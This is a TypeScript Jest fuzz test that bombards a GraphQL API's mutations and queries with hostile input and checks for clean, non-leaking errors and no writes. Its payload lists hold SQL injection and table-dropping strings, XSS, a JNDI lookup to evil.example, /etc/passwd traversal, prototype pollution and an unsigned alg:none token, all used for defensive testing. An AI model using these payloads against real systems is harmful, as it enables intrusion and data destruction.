import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import pg from 'pg';
import { type TestApp, startTestApp } from './support/test-app.js';
import { seededRandom } from '../src/comparators/domain/difference-in-differences.js';

/**
 * Hostile input to every mutation: at least 1,000 generated requests (wrong types, nulls and missing fields,
 * unknown fields, huge strings, injection strings, invalid codes, dates and numbers, deep, cyclic and batched
 * documents, broken syntax, oversized bodies, bad tokens, other areas' records). Each one must be answered with a
 * clean error (a known code, no stack trace, no SQL, no data) and the event log must not change.
 */

const SEED = Number(process.env.FUZZ_SEED ?? 20191101);
const CASES_PER_MUTATION = 30;

/** A seeded PRNG (mulberry32, the comparators' own), so a failure can be replayed with FUZZ_SEED. */
const prng = seededRandom;

interface TypeRef {
  kind: string;
  name: string | null;
  ofType: TypeRef | null;
}
interface InputField {
  name: string;
  type: TypeRef;
  defaultValue: string | null;
}
interface QueryField {
  name: string;
  args: { name: string; type: TypeRef; defaultValue: string | null }[];
  type: TypeRef;
}
interface SchemaType {
  name: string;
  kind: string;
  inputFields: InputField[] | null;
  enumValues: { name: string }[] | null;
}

const INTROSPECT = `{
  __schema {
    mutationType { fields { name args { name type { ...T } } type { ...T } } }
    queryType { fields { name args { name type { ...T } defaultValue } type { ...T } } }
    types { name kind inputFields { name defaultValue type { ...T } } enumValues { name } }
  }
}
fragment T on __Type { kind name ofType { kind name ofType { kind name ofType { kind name ofType { kind name } } } } }`;

const A = 'E06000008';
const B = 'E08000032';
const C = 'E06000016';

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE es_events; --",
  '"; DELETE FROM es_events; --',
  '1); SELECT pg_sleep(5); --',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  'E06000008\u0000',
  '\u202eE06000008',
  '{"$gt": ""}',
  '__proto__',
  'NaN',
  '\\x00\\x1b[31m',
];
/** Not an ONS code, and not a theme or indicator code either. */
const BAD_CODES = [
  'e06000008',
  ' E06000008',
  'E06-000008',
  '',
  'A',
  'X'.repeat(41),
  'E0600000\u00e9',
  "E06000008' OR '1'='1",
  'E06000008;--',
];
const BAD_DATES = [
  '2019-02-30',
  '2019-13-01',
  '2019-00-10',
  '19-01-01',
  '2019/01/01',
  'yesterday',
  '9999999-01-01',
  '2019-1-1',
  '',
  '2019-04-01T00:00:00Z; DROP TABLE es_events',
];
const BAD_PERIODS = [
  '2019',
  '2019-2020',
  '2019-21',
  '2019-20 Q5',
  '2019-20 Q0',
  '19-20',
  '2019-20Q1',
  'Q1 2019-20',
];

const CODE_FIELD = /^(areaCode|adoptingAreaCode|code|indicatorCode)$/;
const DATE_FIELD = /^(date|on|plannedStart|plannedEnd|dueDate|periodStart|periodEnd)$/;
const PERIOD_FIELD = /^(year|fromYear|toYear|quarter)$/;
const ID_FIELD = /^(id|actionId|measurementId|partnerId|leadPartnerId|milestoneId|commandId)$/;

describe('fuzzing every mutation with hostile input', () => {
  let t: TestApp;
  let db: pg.Client;
  let types: Map<string, SchemaType>;
  let mutations: { name: string; inputType: string }[];
  let queries: QueryField[];
  let central: Record<string, string>;
  const refs: Record<string, string> = {};

  async function setup<T>(query: string, variables: Record<string, unknown>): Promise<T> {
    const res = await t.gql<T>(query, variables, central);
    if (res.errors) throw new Error(JSON.stringify(res.errors));
    return res.data as T;
  }

  beforeAll(async () => {
    t = await startTestApp({ tokenless: 'anonymous' });
    db = new pg.Client({ connectionString: t.db.url });
    await db.connect();
    central = t.as({ role: 'CENTRAL', subject: 'fuzz-central' });
    const reg = 'mutation($i: RegisterAreaInput!) { registerArea(input: $i) { code } }';
    await setup(reg, { i: { code: A, name: 'Blackburn with Darwen', kind: 'PILOT', region: 'North West' } });
    await setup(reg, { i: { code: B, name: 'Bradford', kind: 'PILOT', region: 'Yorkshire and The Humber' } });
    await setup(reg, { i: { code: C, name: 'Leicester', kind: 'NON_PILOT', region: 'East Midlands' } });
    const partner = await setup<{ registerPartner: { id: string } }>(
      'mutation($i: RegisterPartnerInput!) { registerPartner(input: $i) { id } }',
      { i: { areaCode: A, name: 'The council', sector: 'COUNCIL' } },
    );
    refs.partnerId = partner.registerPartner.id;
    const action = await setup<{ planAction: { id: string; milestones: { id: string }[] } }>(
      'mutation($i: PlanActionInput!) { planAction(input: $i) { id milestones { id } } }',
      {
        i: {
          areaCode: A,
          title: 'Schools linking',
          themes: ['EDUCATION_AND_YOUNG_PEOPLE'],
          leadPartnerId: refs.partnerId,
          plannedStart: '2019-04-01',
          plannedEnd: '2020-03-31',
          milestones: [{ title: 'Halfway', dueDate: '2019-10-01' }],
        },
      },
    );
    refs.actionId = action.planAction.id;
    refs.milestoneId = action.planAction.milestones[0].id;
    const item = await setup<{ draftLearning: { id: string } }>(
      'mutation($i: DraftLearningInput!) { draftLearning(input: $i) { id } }',
      {
        i: {
          areaCode: A,
          type: 'CASE_STUDY',
          title: 'Linked schools',
          summary: 'Pupils met.',
          body: 'Twelve schools.',
          themes: ['EDUCATION_AND_YOUNG_PEOPLE'],
        },
      },
    );
    refs.id = item.draftLearning.id;
    const schema = await setup<{
      __schema: {
        mutationType: { fields: { name: string; args: { name: string; type: TypeRef }[] }[] };
        queryType: { fields: QueryField[] };
        types: SchemaType[];
      };
    }>(INTROSPECT, {});
    types = new Map(schema.__schema.types.map((ty) => [ty.name, ty]));
    queries = schema.__schema.queryType.fields;
    mutations = schema.__schema.mutationType.fields.map((f) => {
      const input = f.args.find((a) => a.name === 'input');
      if (!input) throw new Error(`mutation ${f.name} has no input argument: extend the fuzzer`);
      return { name: f.name, inputType: named(input.type) };
    });
  }, 120_000);

  afterAll(async () => {
    await db?.end();
    await t?.close();
  });

  function named(type: TypeRef): string {
    let ty: TypeRef | null = type;
    while (ty && !ty.name) ty = ty.ofType;
    return ty!.name!;
  }

  // ------------------------------------------------------------------------------ plausible base input

  function baseValue(field: string, type: TypeRef, rnd: () => number): unknown {
    if (type.kind === 'NON_NULL') return baseValue(field, type.ofType!, rnd);
    if (type.kind === 'LIST') return [baseValue(field, type.ofType!, rnd)];
    const ty = types.get(type.name!)!;
    if (ty.kind === 'INPUT_OBJECT') return baseObject(ty.name, rnd);
    if (ty.kind === 'ENUM') return ty.enumValues![Math.floor(rnd() * ty.enumValues!.length)].name;
    switch (ty.name) {
      case 'Int':
        return 1 + Math.floor(rnd() * 100);
      case 'Float':
        return 42.5;
      case 'Boolean':
        return true;
      case 'Pence':
        return 10_000;
      case 'DateTime':
        return '2019-06-01T12:00:00Z';
    }
    if (field === 'areaCode' || field === 'adoptingAreaCode') return [A, B, C][Math.floor(rnd() * 3)];
    if (field === 'code') return 'E07000999';
    if (field === 'indicatorCode') return 'YOUNG_PEOPLE_MIXING';
    if (field === 'theme') return 'ENGLISH_LANGUAGE';
    if (field === 'themes') return 'EDUCATION_AND_YOUNG_PEOPLE';
    if (DATE_FIELD.test(field)) return '2019-06-01';
    if (field === 'quarter') return '2019-20 Q2';
    if (PERIOD_FIELD.test(field)) return '2019-20';
    if (field === 'commandId') return undefined;
    if (ID_FIELD.test(field)) return refs[field] ?? refs.actionId;
    if (field === 'url') return 'https://example.org/evidence';
    return `Fuzz ${field}`;
  }

  function baseObject(typeName: string, rnd: () => number): Record<string, unknown> {
    const out: Record<string, unknown> = {};
    for (const f of types.get(typeName)!.inputFields!) {
      const required = f.type.kind === 'NON_NULL' && f.defaultValue === null;
      if (!required && rnd() < 0.5) continue;
      const v = baseValue(f.name, f.type, rnd);
      if (v !== undefined) out[f.name] = v;
    }
    return out;
  }

  /** Every path to a field inside an input value, with its type. */
  function fieldPaths(
    typeName: string,
    value: Record<string, unknown>,
    prefix: (string | number)[] = [],
  ): { path: (string | number)[]; field: InputField }[] {
    const out: { path: (string | number)[]; field: InputField }[] = [];
    for (const f of types.get(typeName)!.inputFields!) {
      const path = [...prefix, f.name];
      out.push({ path, field: f });
      const v = value[f.name];
      const inner = types.get(named(f.type));
      if (inner?.kind === 'INPUT_OBJECT' && v && typeof v === 'object') {
        if (Array.isArray(v)) {
          v.forEach((x, i) => {
            if (x && typeof x === 'object')
              out.push(...fieldPaths(inner.name, x as Record<string, unknown>, [...path, i]));
          });
        } else out.push(...fieldPaths(inner.name, v as Record<string, unknown>, path));
      }
    }
    return out;
  }

  function setAt(root: Record<string, unknown>, path: (string | number)[], value: unknown, remove = false) {
    let node = root as Record<string | number, unknown>;
    for (const key of path.slice(0, -1)) {
      if (node[key] === undefined || node[key] === null || typeof node[key] !== 'object') node[key] = {};
      node = node[key] as Record<string | number, unknown>;
    }
    const last = path[path.length - 1];
    if (remove) delete node[last];
    // an own property even for "__proto__", so that it is sent
    else Object.defineProperty(node, last, { value, enumerable: true, writable: true, configurable: true });
  }

  const pick = <T>(list: readonly T[], rnd: () => number): T => list[Math.floor(rnd() * list.length)];

  /**
   * One hostile request for a mutation. Every case carries at least one fault the server must refuse, so none can
   * legitimately write.
   */
  function hostile(
    mutation: { name: string; inputType: string },
    rnd: () => number,
  ): { label: string; body: string; headers: Record<string, string> } {
    const doc = `mutation($input: ${mutation.inputType}!) { ${mutation.name}(input: $input) { __typename } }`;
    const input = baseObject(mutation.inputType, rnd);
    const paths = fieldPaths(mutation.inputType, input);
    const target = pick(paths, rnd);
    const field = target.field;
    const leaf = named(field.type);
    const leafKind = types.get(leaf)?.kind;
    const isList = field.type.kind === 'LIST' || field.type.ofType?.kind === 'LIST';
    const json = (variables: unknown, query = doc) => JSON.stringify({ query, variables });
    const kinds = [
      'wrongType',
      'nullRequired',
      'missingRequired',
      'unknownField',
      'badCode',
      'badDate',
      'badPeriod',
      'injection',
      'badNumber',
      'hugeString',
      'cyclicFragments',
      'tooManyMutations',
      'deepQuery',
      'brokenSyntax',
      'oversizedBody',
      'badToken',
      'otherArea',
      'councilWrite',
    ] as const;
    const kind = pick(kinds, rnd);
    const path = target.path;
    let headers = central;
    switch (kind) {
      case 'wrongType': {
        const wrong =
          leafKind === 'INPUT_OBJECT'
            ? pick(['a string', 17, true], rnd)
            : isList
              ? pick([{ nested: { deeper: [1, 2, 3] } }, [{ a: 1 }], [[['x']]]], rnd)
              : leaf === 'Int' || leaf === 'Float' || leaf === 'Pence'
                ? pick(['12', 'twelve', { n: 1 }, [1], true], rnd)
                : leaf === 'Boolean'
                  ? pick(['yes', 1, {}], rnd)
                  : leaf === 'ID'
                    ? pick([{ id: 1 }, true, 1.5, [['x']]], rnd)
                    : pick([12345, true, { value: 'x' }, [['x']], 1.5], rnd);
        setAt(input, path, wrong);
        break;
      }
      case 'nullRequired':
      case 'missingRequired': {
        const required = paths.filter(
          (p) => p.field.type.kind === 'NON_NULL' && p.field.defaultValue === null && p.path.length === 1,
        );
        const chosen = required.length > 0 ? pick(required, rnd) : null;
        if (chosen) setAt(input, chosen.path, null, kind === 'missingRequired');
        else setAt(input, ['notAField'], 1); // no required field: an unknown one instead
        break;
      }
      case 'unknownField':
        setAt(
          input,
          [pick(['__proto__', 'constructor', 'isAdmin', 'role', 'areaCode2', '$where'], rnd)],
          pick([{ role: 'CENTRAL' }, true, 'E06000008', { $gt: '' }], rnd),
        );
        break;
      case 'badCode': {
        const codeField = paths.find(
          (p) => CODE_FIELD.test(p.field.name) && named(p.field.type) === 'String',
        );
        setAt(input, codeField?.path ?? ['areaCode'], pick([...BAD_CODES, ...INJECTIONS.slice(0, 4)], rnd));
        break;
      }
      case 'badDate': {
        const dates = paths.filter((p) => DATE_FIELD.test(p.field.name));
        if (dates.length > 0) setAt(input, pick(dates, rnd).path, pick(BAD_DATES, rnd));
        else setAt(input, ['date'], pick(BAD_DATES, rnd)); // not a field of this input: refused as unknown
        break;
      }
      case 'badPeriod': {
        const periods = paths.filter((p) => PERIOD_FIELD.test(p.field.name));
        if (periods.length > 0) setAt(input, pick(periods, rnd).path, pick(BAD_PERIODS, rnd));
        else setAt(input, ['quarter'], pick(BAD_PERIODS, rnd));
        break;
      }
      case 'injection': {
        // into a field that only takes codes, ids, dates or periods (free text may legitimately hold anything)
        const constrained = paths.filter(
          (p) =>
            (CODE_FIELD.test(p.field.name) ||
              DATE_FIELD.test(p.field.name) ||
              PERIOD_FIELD.test(p.field.name) ||
              ID_FIELD.test(p.field.name)) &&
            ['String', 'ID'].includes(named(p.field.type)),
        );
        if (constrained.length > 0) setAt(input, pick(constrained, rnd).path, pick(INJECTIONS, rnd));
        else setAt(input, ['id'], pick(INJECTIONS, rnd));
        break;
      }
      case 'badNumber': {
        const numbers = paths.filter((p) => ['Int', 'Pence', 'Float'].includes(named(p.field.type)));
        if (numbers.length > 0) {
          const p = pick(numbers, rnd);
          const leafName = named(p.field.type);
          setAt(
            input,
            p.path,
            leafName === 'Float'
              ? pick(['1e400', 'NaN', '-Infinity', { v: 1 }], rnd)
              : leafName === 'Int'
                ? pick([2 ** 31, -(2 ** 31) - 1, 1.5, '100', 1e300], rnd)
                : pick([2 ** 53 + 2, -(2 ** 60), 1.5, '100', 1e300], rnd),
          );
        } else setAt(input, ['amountPence'], 1.5);
        break;
      }
      case 'hugeString': {
        const strings = paths.filter((p) => named(p.field.type) === 'String' && !isListType(p.field.type));
        const size = pick([70_000, 200_000, 900_000], rnd);
        const huge = pick(['x', 'é', '🙂', "'; DROP TABLE es_events; --"], rnd).repeat(Math.ceil(size / 4));
        setAt(input, strings.length > 0 ? pick(strings, rnd).path : ['title'], huge);
        break;
      }
      case 'cyclicFragments':
        return {
          label: `${mutation.name}: cyclic fragments`,
          headers,
          body: json(
            { input },
            `mutation($input: ${mutation.inputType}!) { ${mutation.name}(input: $input) { ...F } }
             fragment F on ${returnTypeOf(mutation.name)} { __typename ...G } fragment G on ${returnTypeOf(mutation.name)} { ...F }`,
          ),
        };
      case 'tooManyMutations': {
        const count = 11 + Math.floor(rnd() * 40);
        const aliases = Array.from(
          { length: count },
          (_, i) => `m${i}: ${mutation.name}(input: $input) { __typename }`,
        );
        return {
          label: `${mutation.name}: ${count} aliased mutations`,
          headers,
          body: json({ input }, `mutation($input: ${mutation.inputType}!) { ${aliases.join(' ')} }`),
        };
      }
      case 'deepQuery': {
        const pairs = 7 + Math.floor(rnd() * 15);
        let sel = 'name';
        for (let i = 0; i < pairs; i++) sel = `fields { type { ${sel} } }`;
        return {
          label: `${mutation.name}: with a query ${pairs * 2 + 3} levels deep`,
          headers,
          body: JSON.stringify({
            query: `mutation M($input: ${mutation.inputType}!) { ${mutation.name}(input: $input) { __typename } }
                    query Q { __schema { types { ${sel} } } }`,
            operationName: 'M',
            variables: { input },
          }),
        };
      }
      case 'brokenSyntax': {
        const cut = doc.slice(0, Math.floor(rnd() * (doc.length - 1)));
        return {
          label: `${mutation.name}: broken syntax`,
          headers,
          body: pick(
            [
              json({ input }, cut),
              json({ input }, doc + ' }}}'),
              json({ input }, doc.replace('mutation', 'mutaton')),
              '{"query": "mutation { ' + mutation.name,
              JSON.stringify({ query: 42, variables: 'nope' }),
              JSON.stringify([{ query: doc }, 'x']),
            ],
            rnd,
          ),
        };
      }
      case 'oversizedBody':
        return {
          label: `${mutation.name}: oversized body`,
          headers,
          body: json({ input: { ...input, padding: 'p'.repeat(1024 * 1024 + 10) } }),
        };
      case 'badToken':
        headers = {
          authorization: pick(
            [
              'Bearer ' + t.token({ role: 'CENTRAL', expiresIn: -60 }),
              'Bearer ' + t.token({ role: 'CENTRAL' }).slice(0, -3) + 'abc',
              'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4Iiwicm9sZSI6IkNFTlRSQUwiLCJleHAiOjk5OTk5OTk5OTl9.',
              'Bearer ' + 'a'.repeat(9000),
              'Basic dXNlcjpwYXNz',
              "Bearer ' OR 1=1 --",
            ],
            rnd,
          ),
        };
        return { label: `${mutation.name}: bad token`, headers, body: json({ input }) };
      case 'otherArea':
        // a pilot of Bradford writing Blackburn's records (the base refers to Blackburn's action, partner, item)
        headers = t.as({ role: 'PILOT', area: B });
        for (const p of paths)
          if (/^(areaCode|adoptingAreaCode)$/.test(p.field.name)) setAt(input, p.path, A);
        setAt(input, path, pick(INJECTIONS, rnd));
        break;
      case 'councilWrite':
        // a council outside the programme writing a pilot's records
        headers = t.as({ role: 'COUNCIL', area: C });
        for (const p of paths)
          if (/^(areaCode|adoptingAreaCode)$/.test(p.field.name)) setAt(input, p.path, A);
        setAt(input, path, pick([...BAD_CODES, ...BAD_DATES], rnd));
        break;
    }
    return { label: `${mutation.name}: ${kind} at ${path.join('.')}`, headers, body: json({ input }) };
  }

  function isListType(type: TypeRef): boolean {
    return type.kind === 'LIST' || type.ofType?.kind === 'LIST';
  }

  function returnTypeOf(mutation: string): string {
    return mutationReturnTypes.get(mutation) ?? 'Area';
  }
  const mutationReturnTypes = new Map<string, string>();

  const CLEAN_CODES = new Set([
    'BAD_USER_INPUT',
    'NOT_FOUND',
    'CONFLICT',
    'FORBIDDEN',
    'UNAUTHENTICATED',
    'GRAPHQL_VALIDATION_FAILED',
    'GRAPHQL_PARSE_FAILED',
    'QUERY_TOO_DEEP',
    'QUERY_TOO_COMPLEX',
    'PAYLOAD_TOO_LARGE',
    'BAD_REQUEST',
  ]);
  const STACK = /\.(js|ts):\d+|node_modules|QueryFailedError|\bat [^\s]+ \(/;
  const LEAK =
    /\bat [^\s]+ \(|\.(js|ts):\d+|node_modules|\bSELECT\b|\bINSERT INTO\b|\bUPDATE \w+ SET\b|relation "|syntax error at or near|QueryFailedError|TypeError|ReferenceError/;

  it('answers at least 1,000 hostile requests to every mutation with clean errors, writing nothing', async () => {
    const schema = await setup<{ __schema: { mutationType: { fields: { name: string; type: TypeRef }[] } } }>(
      '{ __schema { mutationType { fields { name type { kind name ofType { kind name ofType { kind name ofType { kind name } } } } } } } }',
      {},
    );
    for (const f of schema.__schema.mutationType.fields) mutationReturnTypes.set(f.name, named(f.type));

    const rnd = prng(SEED);
    const before = await t.eventCount();
    const problems: string[] = [];
    let sent = 0;
    const perMutation = new Map<string, number>();
    const codes = new Map<string, number>();
    for (const mutation of mutations) {
      for (let i = 0; i < CASES_PER_MUTATION; i++) {
        const { label, body, headers } = hostile(mutation, rnd);
        const countBefore = await t.eventCount();
        const res = await fetch(`${t.url}/graphql`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', ...headers },
          body,
        });
        sent++;
        perMutation.set(mutation.name, (perMutation.get(mutation.name) ?? 0) + 1);
        const text = await res.text();
        let parsed: {
          data?: Record<string, unknown> | null;
          errors?: { message: string; extensions?: { code?: string } }[];
        };
        try {
          parsed = JSON.parse(text);
        } catch {
          problems.push(
            `${label}: answered ${res.status} with a body that is not JSON: ${text.slice(0, 200)}`,
          );
          continue;
        }
        const errors = parsed.errors ?? [];
        if (errors.length === 0)
          problems.push(
            `${label}: answered without an error (${text.slice(0, 200)}) to ${body.slice(0, 300)}`,
          );
        for (const e of errors) {
          const code = e.extensions?.code ?? '(none)';
          codes.set(code, (codes.get(code) ?? 0) + 1);
          if (!CLEAN_CODES.has(code))
            problems.push(
              `${label}: error code ${code}: ${e.message.slice(0, 300)} to ${body.slice(0, 300)}`,
            );
          // (what the client sent may be quoted back: look only outside quotes)
          const own = /"(?:[^"\\]|\\.)*"/g;
          if (LEAK.test(e.message.replace(own, '""')) || STACK.test(JSON.stringify(e.extensions ?? {})))
            problems.push(`${label}: error leaks internals: ${e.message.slice(0, 300)}`);
          if (e.message.length > 2000)
            problems.push(`${label}: error message of ${e.message.length} characters`);
        }
        if (parsed.data && Object.values(parsed.data).some((v) => v !== null))
          problems.push(`${label}: answered data ${JSON.stringify(parsed.data).slice(0, 200)}`);
        if (![200, 400, 401, 413].includes(res.status)) problems.push(`${label}: HTTP ${res.status}`);
        const countAfter = await t.eventCount();
        if (countAfter !== countBefore)
          problems.push(`${label}: WROTE ${countAfter - countBefore} events: ${body.slice(0, 300)}`);
      }
    }
    if (problems.length > 0) console.log(`FUZZ_SEED=${SEED}\n${problems.slice(0, 40).join('\n')}`);
    expect(problems).toEqual([]);
    expect(sent).toBeGreaterThanOrEqual(1000);
    expect(mutations.length).toBeGreaterThanOrEqual(36);
    expect([...perMutation.values()].every((n) => n === CASES_PER_MUTATION)).toBe(true);
    expect(await t.eventCount()).toBe(before);
    // every layer of defence was reached: transport, tokens, policies, document limits, input checks, the domain
    const layers = [
      'PAYLOAD_TOO_LARGE',
      'UNAUTHENTICATED',
      'FORBIDDEN',
      'QUERY_TOO_DEEP',
      'QUERY_TOO_COMPLEX',
      'GRAPHQL_PARSE_FAILED',
      'GRAPHQL_VALIDATION_FAILED',
      'BAD_USER_INPUT',
    ];
    expect(layers.filter((code) => !codes.get(code))).toEqual([]);
    expect((codes.get('NOT_FOUND') ?? 0) + (codes.get('CONFLICT') ?? 0)).toBeGreaterThan(0);
  }, 300_000);

  // ------------------------------------------------------------------------------ every argument of every query

  /** GraphQL's text for a value (input object keys unquoted, enums bare when `enumLike`). */
  function literal(value: unknown, type: TypeRef): string {
    if (type.kind === 'NON_NULL') return literal(value, type.ofType!);
    if (value === null || value === undefined) return 'null';
    if (type.kind === 'LIST')
      return Array.isArray(value)
        ? `[${value.map((v) => literal(v, type.ofType!)).join(', ')}]`
        : literal(value, type.ofType!);
    const ty = types.get(type.name!);
    if (ty?.kind === 'ENUM' && typeof value === 'string' && /^[A-Za-z_]\w*$/.test(value)) return value;
    if (ty?.kind === 'INPUT_OBJECT' && value && typeof value === 'object' && !Array.isArray(value)) {
      const fields = new Map(ty.inputFields!.map((f) => [f.name, f.type]));
      return `{ ${Object.entries(value)
        .map(
          ([k, v]) =>
            `${k}: ${literal(v, fields.get(k) ?? { kind: 'SCALAR', name: 'String', ofType: null })}`,
        )
        .join(', ')} }`;
    }
    return JSON.stringify(value);
  }

  const cursor = (values: unknown) => Buffer.from(JSON.stringify(values)).toString('base64url');

  /** Malformed values for a scalar (or enum) of this name. */
  function malformed(leaf: string): unknown[] {
    const ty = types.get(leaf);
    if (ty?.kind === 'ENUM') return ['NOT_A_VALUE', 12, ''];
    switch (leaf) {
      case 'Int':
        return [-1, 0, 2 ** 31, 1.5, '12', 1e300];
      case 'Float':
        return ['NaN', 1e308, true];
      case 'Boolean':
        return ['yes', 1];
      case 'Pence':
        return [1.5, '100', 1e20, -(2 ** 60)];
      case 'DateTime':
        return [
          'not-a-date',
          'yesterday',
          '2019-02-30T00:00:00Z',
          '2019-13-01',
          '+275760-09-13T00:00:00Z',
          12345,
          '',
        ];
    }
    return [
      '',
      'x'.repeat(5000),
      ...INJECTIONS.slice(0, 6),
      ...BAD_CODES.slice(0, 4),
      ...BAD_DATES.slice(0, 4),
      ...BAD_PERIODS.slice(0, 3),
      'not-a-uuid',
      cursor([1, 2, 3]),
      cursor(['2019-04-01', 'x']),
      cursor({ a: 1 }),
      cursor(['x', 'y', 'z']),
      12345,
    ];
  }

  /** One request per malformed value of each scalar argument (and input field) of a query, the rest plausible. */
  function queryCases(query: QueryField, rnd: () => number): { label: string; body: string; bad: unknown }[] {
    const cases: { label: string; body: string; bad: unknown }[] = [];
    const kind = types.get(named(query.type))?.kind;
    const selection = kind === 'OBJECT' || kind === 'INTERFACE' || kind === 'UNION' ? '{ __typename }' : '';
    const base: Record<string, unknown> = {};
    for (const a of query.args) {
      const required = a.type.kind === 'NON_NULL' && a.defaultValue === null;
      if (required) base[a.name] = baseValue(a.name, a.type, rnd) ?? 'E06000008';
    }
    let n = 0;
    const send = (args: Record<string, unknown>, label: string, bad: unknown) => {
      const typed = query.args.filter((a) => a.name in args);
      // alternately as variables (coercion) and as literals in the document (validation)
      if (n++ % 2 === 0) {
        const defs = typed.map((a) => `$${a.name}: ${printType(a.type)}`).join(', ');
        const call = typed.map((a) => `${a.name}: $${a.name}`).join(', ');
        cases.push({
          bad,
          label: `${query.name}: ${label} (variable)`,
          body: JSON.stringify({
            query: `query${defs ? `(${defs})` : ''} { ${query.name}${call ? `(${call})` : ''} ${selection} }`,
            variables: args,
          }),
        });
      } else {
        const call = typed.map((a) => `${a.name}: ${literal(args[a.name], a.type)}`).join(', ');
        cases.push({
          bad,
          label: `${query.name}: ${label} (literal)`,
          body: JSON.stringify({ query: `{ ${query.name}${call ? `(${call})` : ''} ${selection} }` }),
        });
      }
    };
    for (const arg of query.args) {
      const leaf = named(arg.type);
      const ty = types.get(leaf);
      if (ty?.kind === 'INPUT_OBJECT') {
        const object = baseObject(leaf, rnd);
        for (const { path, field } of fieldPaths(leaf, object)) {
          const inner = types.get(named(field.type));
          if (inner?.kind === 'INPUT_OBJECT') continue;
          for (const bad of malformed(named(field.type))) {
            const value = structuredClone(object);
            setAt(value, path, isListType(field.type) && rnd() < 0.5 ? [bad] : bad);
            send(
              { ...base, [arg.name]: value },
              `${arg.name}.${path.join('.')} = ${JSON.stringify(bad)?.slice(0, 40)}`,
              bad,
            );
          }
        }
      } else {
        for (const bad of malformed(leaf))
          send(
            { ...base, [arg.name]: isListType(arg.type) && rnd() < 0.5 ? [bad] : bad },
            `${arg.name} = ${JSON.stringify(bad)?.slice(0, 40)}`,
            bad,
          );
      }
    }
    return cases;
  }

  function printType(type: TypeRef): string {
    if (type.kind === 'NON_NULL') return `${printType(type.ofType!)}!`;
    if (type.kind === 'LIST') return `[${printType(type.ofType!)}]`;
    return type.name!;
  }

  it('answers malformed values in every scalar argument of every query without an internal error', async () => {
    const rnd = prng(SEED + 1);
    const problems: string[] = [];
    const covered = new Set<string>();
    let sent = 0;
    const allowed = new Set([...CLEAN_CODES, 'UNAVAILABLE']);
    for (const query of queries) {
      for (const { label, body, bad } of queryCases(query, rnd)) {
        const res = await fetch(`${t.url}/graphql`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', ...central },
          body,
        });
        sent++;
        covered.add(query.name);
        const text = await res.text();
        let parsed: { errors?: { message: string; extensions?: { code?: string } }[] };
        try {
          parsed = JSON.parse(text);
        } catch {
          problems.push(`${label}: answered ${res.status} with a body that is not JSON`);
          continue;
        }
        if (![200, 400].includes(res.status)) problems.push(`${label}: HTTP ${res.status}`);
        for (const e of parsed.errors ?? []) {
          const code = e.extensions?.code ?? '(none)';
          if (!allowed.has(code))
            problems.push(`${label}: ${code}: ${e.message.slice(0, 200)} to ${body.slice(0, 300)}`);
          // (what the client sent may be quoted back, or echoed: look only at the rest)
          const own = /"(?:[^"\\]|\\.)*"/g;
          const echoed = typeof bad === 'string' && bad !== '' ? e.message.split(bad).join('') : e.message;
          if (LEAK.test(echoed.replace(own, '""')))
            problems.push(`${label}: error leaks internals: ${e.message.slice(0, 200)}`);
        }
      }
    }
    if (problems.length > 0) console.log(`FUZZ_SEED=${SEED}\n${problems.slice(0, 40).join('\n')}`);
    expect(problems).toEqual([]);
    // every query that takes arguments was reached, each with many values
    expect(queries.filter((q) => q.args.length > 0 && !covered.has(q.name)).map((q) => q.name)).toEqual([]);
    expect(sent).toBeGreaterThanOrEqual(500);
  }, 300_000);
});
